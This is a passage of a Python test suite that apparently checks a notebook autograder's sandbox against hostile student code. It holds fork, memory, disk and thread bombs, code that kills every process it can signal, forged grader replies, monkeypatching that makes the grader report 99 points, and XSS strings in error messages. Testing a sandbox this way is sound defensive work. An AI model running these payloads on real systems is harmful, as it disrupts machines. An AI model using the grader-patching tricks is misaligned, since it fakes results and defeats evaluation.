time.sleep(9)""",
        flag="",
    ),
    forger(
        "sixty-four-dims",
        "a tensor of sixty-four dimensions",
        """send(frame(reply(evidence(b'{"tensor":["float32",[%s],[%s],1]}' % (b",".join([b"1"] * 64), b",".join([b"1"] * 64)))), bytes(4)))
time.sleep(9)""",
        flag="",
    ),
    forger("longer-body", "a body longer than its tensors", """send(frame(reply(evidence(b"1.0")), bytes(4096)))""", "cannot be read"),
    forger(
        "nan-evidence",
        "NaN and infinity everywhere",
        """send(frame(reply(b'{"dict":[["evidence",{"dict":[["y",NaN],["left",NaN]]}],["after",{"dict":[["x",NaN],["calls",Infinity]]}]]}')))
time.sleep(9)""",
        "torch.Tensor",
        flag="",
    ),
    forger(
        "error-with-a-wrong-line",
        "an error whose line is a text",
        """send(frame(reply(b'{"dict":[["error","x"],["function",null],["line","1"],["source",""],["hidden",""]]}')))""",
        "not a reply",
    ),
    forger(
        "empty-error",
        "an error without a text, in a function that is called as the check's help",
        """send(frame(reply(b'{"dict":[["error",""],["function","does not require grad"],["line",1],["source",""],["hidden",""]]}')))
time.sleep(9)""",
        flag="",
    ),
    forger(
        "endless-message",
        "an error of four megabytes, as HTML",
        """text = b"<img src=x onerror=alert(1)>" * 7000
send(frame(reply(b'{"dict":[["error","%s"],["function","%s"],["line",1],["source","%s"],["hidden","%s"]]}' % (text, text, text, text))))
time.sleep(9)""",
        "onerror",
        flag="",
    ),
    forger("missing-message", "calls itself not attempted, at length", """send(frame(reply(b'{"dict":[["missing","%s"],["function",null]]}' % (b"a b" * 60_000))))
time.sleep(9)""", flag=""),
    forger(
        "closes-the-pipes",
        "closes the pipes and lives on",
        """os.close(WRITE)
os.close(READ)
time.sleep(60)""",
        "ended Python|more than",
        flag="",
    ),
    forger(
        "never-reads",
        "stops for ever, so that no question is read",
        """import signal
os.kill(os.getpid(), signal.SIGSTOP)
while True:
    time.sleep(1)""",
        "more than",
        flag="time-out",
    ),
    cell(
        "replays",
        "sends each reply twice, and old ones again",
        WIRE
        + """\
import gc
worker = next(f.__globals__ for f in gc.get_objects() if type(f) is type(lambda: 0) and f.__name__ == "serve" and "be_silent" in f.__globals__)
old, kept = worker["send"], []
def again(descriptor, data):
    kept.append(data)
    old(descriptor, kept[0])
worker["send"] = again""",
        "answers no question",
        flag="attack",
        keeps=False,
    ),
    cell(
        "steals-questions",
        "a thread reads the grader's questions before the worker does, and answers them",
        WIRE
        + """\
import json, threading
def thief():
    while True:
        size = struct.unpack(">4sIQ", os.read(READ, 16))
        header = os.read(READ, size[1])
        number = header.partition(b'"nonce","')[2][:32].decode()
        os.read(READ, size[2]) if size[2] else None
        send(frame(reply(evidence(b"1.0"), number)))
threading.Thread(target=thief, daemon=True).start()""",
        "not a reply|cannot be read|answers no question|more than|ended Python|asked",
        keeps=False,
    ),
    cell(
        "background-forger",
        "a background process writes into the pipe while later questions are answered",
        WIRE
        + """\
if os.fork() == 0:
    os.setsid()
    while True:
        try:
            os.write(WRITE, b"LAB1 forged by a background process")
        except OSError:
            os._exit(0)
        time.sleep(0.05)
time.sleep(0.3)""",
        "cannot be read|before it was asked",
        flag="attack",
        keeps=False,
    ),
    cell(
        "worker-patched",
        "the worker, the wire, json and struct are replaced",
        """\
import json, struct, sys
import gc
worker = next(f.__globals__ for f in gc.get_objects() if type(f) is type(lambda: 0) and f.__name__ == "serve" and "be_silent" in f.__globals__)
from utils.checks import engine
worker["answer"] = lambda shell, message: {"evidence": {"y": torch.ones(7)}, "after": {}}
engine.reply = lambda question, names: {"evidence": {}, "after": {}}
engine.plain = lambda value, depth=0: value
engine.Student.__getattr__ = lambda self, name: lambda *args, **kwargs: args[0] if args else True
json.dumps = lambda *args, **kwargs: '{"points": 99}'
torch.load = torch.save = None""",
        "not a reply|cannot be read|ended Python|could not be compared|answers no question|result|is not",
        keeps=False,
    ),
]

# ---------------------------------------------------------------------------------------------- processes and resources

LOOP = "while True:\n    pass"
PROCESSES = [
    cell("exit-cell", "sys.exit in a cell", "import sys\nsys.exit(0)", "SystemExit|stopped|left out|ended"),
    cell("os-exit-cell", "os._exit in a cell", "os._exit(0)", "ended Python", both=True),
    answer("os-exit-answer", "os._exit in an answer, with a good code", "os._exit(0)", "ended Python"),
    answer("exit-answer", "sys.exit in an answer", "import sys\nsys.exit(0)", "SystemExit"),
    answer("abort", "aborts the process", "os.abort()", "crashed Python|ended Python"),
    answer("segfault", "a segmentation fault", "import ctypes\nctypes.string_at(0)", "SIGSEGV|crashed|ended Python", both=True),
    answer(
        "deep-recursion",
        "recursion beyond C's stack",
        "import sys\nsys.setrecursionlimit(10**9)\ndef down(n): return down(n + 1) + max([n], key=lambda m: down(m))\ndown(0)",
        "ended Python|crashed|Recursion|memory|Memory|more than",
    ),
    cell("kill-itself", "SIGKILL to itself", "import signal\nos.kill(os.getpid(), signal.SIGKILL)\nimport time\ntime.sleep(9)", "ended Python|more than"),
    cell(
        "kill-parent",
        "signals to its parent, its group and everyone",
        """\
import signal
for name in ("SIGTERM", "SIGSTOP", "SIGKILL"):
    for call, number in ((os.kill, os.getppid()), (os.killpg, 0), (os.kill, -1), (os.kill, 1), (os.kill, 2)):
        try:
            if number or call is os.killpg: call(number, getattr(signal, name))
        except OSError:
            pass
import time
time.sleep(30)""",
        "ended Python|more than",
        both=True,
    ),
    cell(
        "kill-everyone",
        "SIGKILL to every process that it may signal",
        """\
if os.getpid() == 2:
    for n in range(1, 70000):
        if n != 2:
            try: os.kill(n, 9)
            except OSError: pass
try: os.kill(-1, 9)
except OSError: pass
raise RuntimeError("alone")""",
        "ended Python|alone|more than",
        both=True,
    ),
    cell(
        "no-signals",
        "ignores every signal, and loops",
        "import signal\nfor n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n" + LOOP,
        "more than",
        flag="time-out",
    ),
    cell("loop-cell", "an endless loop in a cell", LOOP, "more than", flag="time-out"),
    answer("loop-answer", "an endless loop in an answer", LOOP, "more than", flag="time-out", both=True),
    answer("loop-in-c", "an endless loop in C, which no exception ends", "import re\nre.match('(a*)*$', 'a' * 60 + 'b')", "more than", flag="time-out"),
    cell(
        "loop-in-del",
        "an endless loop when an object goes",
        "class Last:\n    def __del__(self):\n        while True: pass\nlast = Last()\ndel last",
        "more than",
        flag="time-out",
    ),
    cell(
        "loop-in-atexit",
        "an endless loop when Python ends, and when a cell has run",
        f"import atexit, sys\ndef loop(*args):\n{indented(LOOP)}\natexit.register(loop)\nget_ipython().events.register('pre_run_cell', loop)\n",
        "more than",
        flag="time-out",
        keeps=False,
    ),
    cell(
        "loop-in-a-magic",
        "an endless loop when a magic's extension is imported",
        "open('hostile_magic.py', 'w').write('def load_ipython_extension(shell):\\n    while True: pass')\n%load_ext hostile_magic",
        "more than",
        flag="time-out",
    ),
    cell("stop-itself", "SIGSTOP to itself", "import signal\nos.kill(os.getpid(), signal.SIGSTOP)\nimport time\ntime.sleep(60)", "more than", flag="time-out"),
    cell(
        "fork-bomb",
        "as many processes as it can have",
        """\
import time
end = time.monotonic() + 60
while time.monotonic() < end:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)""",
        "processes|more than|ended Python|stopped with|memory",
        both=True,
    ),
    cell(
        "thread-bomb",
        "as many threads as it can have",
        """\
import threading, time
started = 0
try:
    while started < 5000:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        started += 1
finally:
    print(started)
assert started < 200, "LOOT no limit on threads" """,
        "start new thread|stopped with|processes|ended Python",
    ),
    cell(
        "memory-bomb",
        "as much memory as it can have",
        "kept = []\nwhile True:\n    kept.append(bytearray(64 << 20))",
        "MemoryError|memory|ran for more",  # on a busy machine time is over first
        both=True,
    ),
    cell(
        "memory-bomb-of-children",
        "memory in many processes at once",
        """\
import time
for _ in range(8):
    if os.fork() == 0:
        kept = []
        while True:
            try:
                kept.append(b"x" * (16 << 20))
            except MemoryError:
                time.sleep(0.05)
while True:
    time.sleep(1)""",
        "memory|ran for more",
        both=True,
    ),
    cell(
        "disk-bomb",
        "fills the scratch folder and shared memory",
        """\
def fill(folder):
    total = 0
    try:
        for number in range(4000):
            with open(f"{folder}/hostile-mark-{number}", "wb") as file:
                total += file.write(bytes(1 << 20))
    except OSError:
        pass
    return total
sizes = {folder: fill(folder) for folder in ("/scratch", "/dev/shm", "/tmp")}
try:
    with open("/scratch/large", "wb") as file: file.truncate(1 << 40)
    raise RuntimeError("LOOT a file of a terabyte")
except OSError:
    pass
raise RuntimeError(f"LOOT {sizes}" if sum(sizes.values()) > 200 << 20 else "full")""",
        "full|File size|ended Python",
        both=True,
    ),
    cell(
        "inode-bomb",
        "a million empty files",
        """\
import time
end, number = time.monotonic() + 3, 0
try:
    while time.monotonic() < end:
        os.close(os.open(f"/scratch/{number}", os.O_CREAT))
        number += 1
except OSError:
    pass
raise RuntimeError(f"files: {number}")""",
        "files: |more than",
        both=True,
    ),
    cell(
        "output-bomb",
        "prints without an end",
        """\
import sys
for _ in range(200):
    print("x" * 1_000_000)
    sys.stderr.write("y" * 1_000_000)
os.write(1, b"z" * 50_000_000)
raise RuntimeError("printed")""",
        "printed",
    ),
    cell(
        "descriptor-bomb",
        "as many open files as it can have",
        """\
kept = []
try:
    while len(kept) < 100_000:
        kept.append(os.open("/dev/null", os.O_RDONLY))
except OSError:
    pass
count = len(kept)
for number in kept: os.close(number)
raise RuntimeError("LOOT no limit" if count > 5000 else "limited")""",
        "limited",
    ),
    cell(
        "zombies",
        "children that nobody waits for",
        "try:\n    while True:\n        if os.fork() == 0: os._exit(0)\nexcept OSError:\n    raise RuntimeError('no more')",
        "no more|processes",
    ),
    cell(
        "background-daemon",
        "processes that outlive the notebook: double fork, setsid, nohup, at the end",
        """\
import atexit, subprocess, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "__SLEEP__"])
    os._exit(0)
subprocess.Popen(["nohup", "setsid", "sleep", "__SLEEP__"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
get_ipython().system("(nohup sleep __SLEEP__ >/dev/null 2>&1 &)")
atexit.register(lambda: subprocess.Popen(["sleep", "__SLEEP__"]))
raise RuntimeError("daemons started")""",
        "daemons started",
        both=True,
    ),
    cell(
        "background-of-shell",
        "a shell line that never comes back",
        "!sleep __SLEEP__",
        "more than",
        flag="time-out",
    ),
]

# --------------------------------------------------------------------------------------- hostile values and exceptions

VALUES = [
    answer(
        "hostile-str",
        "an exception whose text, name and representation are hostile",
        """\
class Evil(Exception):
    def __str__(self): raise SystemExit
    __repr__ = __str__
    def __class_getitem__(cls, name): raise SystemExit
raise Evil()""",
        "Evil|SystemExit",
    ),
    answer("huge-exception", "an exception of fifty megabytes of HTML", "raise ValueError('<script>alert(1)</script>' * 2_000_000)", "script|larger|text of more"),
    answer("huge-class-name", "an exception class with a name of a million characters", "raise type('E' * 1_000_000, (Exception,), {})()", "EEE|text of more"),
    answer("loop-in-repr", "a result that takes for ever to be shown", "class R:\n    def __repr__(self):\n        while True: pass\nreturn R()", "more than", flag="time-out"),
    answer("base-exception", "an exception that is none", "raise KeyboardInterrupt('<b>stop</b>')", "KeyboardInterrupt|stop"),
    answer("generator", "a generator without an end", "def forever():\n    while True: yield x\nreturn forever()", "torch.Tensor|generator"),
    answer("endless-list", "a list subclass whose items never end", "class L(list):\n    def __iter__(self):\n        while True: yield 1\nreturn L([1])", "more than|memory|MemoryError|ended Python"),
    answer("own-list", "a list that holds itself", "items = []\nitems.append(items)\nreturn items", "torch.Tensor|tuple|nested"),
    answer("hostile-keys", "a dict whose keys have no text", "class K:\n    def __str__(self): raise SystemExit\n    __hash__ = object.__hash__\nreturn {K(): 1}", "SystemExit|torch.Tensor"),
    answer("expanded", "a view of a trillion numbers", "return torch.zeros(1, dtype=x.dtype).expand(2**40)", "memory|Memory|alloc|larger|ended Python"),
    answer("meta-tensor", "tensors without memory, sparse ones, nested ones", "return torch.empty(x.shape, device='meta') if x.dim() else x.to_sparse()", "torch.Tensor"),
    answer("huge-tensor", "a tensor of sixty megabytes in place of a number", "return torch.zeros(15_000_000)", "larger|shape"),
    answer("huge-int", "an integer of a million digits", "return 10**1_000_000", "digits"),
    answer(
        "mutates-later",
        "a thread goes on changing the result",
        "import threading\ny = torch.zeros_like(x)\ndef change():\n    while True: y.add_(1)\nthreading.Thread(target=change, daemon=True).start()\nreturn y",
        "",
    ),
    answer("complex-view", "a conjugate view in place of numbers", "return torch.conj(torch.zeros(x.shape, dtype=torch.complex64))", "dtype|values"),
    cell(
        "tensor-methods-endless",
        "Tensor.detach never ends",
        "def never(self, *args):\n    while True: pass\ntorch.Tensor.detach = never",
        "more than",
        flag="time-out",
        keeps=False,
    ),
    cell("reseeding", "the random numbers of the process are made constant", "torch.manual_seed = lambda seed: None\ntorch.random.fork_rng = None", "", keeps=False),
]

ATTACKS = [*PATCHES, *FORGED, *SPIES, *PERSISTENCE, *FRAMES, *PROCESSES, *VALUES]
